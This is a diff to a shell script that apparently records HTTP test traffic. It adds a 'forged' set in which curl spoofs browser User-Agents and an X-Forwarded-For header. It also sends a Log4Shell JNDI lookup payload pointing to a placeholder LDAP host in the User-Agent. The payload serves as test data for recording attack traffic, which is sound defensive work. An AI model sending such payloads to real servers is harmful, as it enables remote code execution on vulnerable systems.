@@ -18,7 +18,7 @@ export PYTHONDONTWRITEBYTECODE=1
 
 readonly NAMES="http-chromium http-firefox http-pages http-tools http-python http-go http-java http-node http-servers
     http-servers-python http-servers-others http-proxies http-keep-alive http-keep-alive-h2load http-pipelined
-    http-bodies http-upgrades http-h2c http-h2c-h2load http-imitation"
+    http-bodies http-upgrades http-h2c http-h2c-h2load http-imitation http-forged"
 
 here=$(cd "$(dirname "$0")" && pwd)
 programs=$here/http-programs
@@ -425,6 +425,22 @@ record_http_imitation() {
     named nghttp -n -H "User-Agent: $firefox" http://www.example.test:8080/index.html
     chromium_page "--user-agent=$windows"
     firefox_page general.useragent.override "\"$windows\""
+    stop_recording
+}
+
+# curl that claims to be Chrome on its own system: with its own headers, with one more, behind a proxy, and without Accept;
+# and attacks in the User-Agent, instead of curl's and behind it.
+record_http_forged() {
+    local chrome='Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36'
+    local attack='${jndi:ldap://192.0.2.9:1389/a}'
+    site_up
+    start http-forged
+    named curl -s -A "$chrome" $PAGE
+    named curl -s -A "$chrome" -H 'Accept-Language: en' $PAGE
+    named curl -s -A "$chrome" -H 'X-Forwarded-For: 198.51.100.7' $PAGE
+    named curl -s -A "$chrome Edg/124.0.0.0" -H Accept: -d name=value $PAGE
+    named curl -s -A "$attack" $PAGE
+    named curl -s -A "curl/8.5.0 $attack" $PAGE
     stop_recording
 }
 
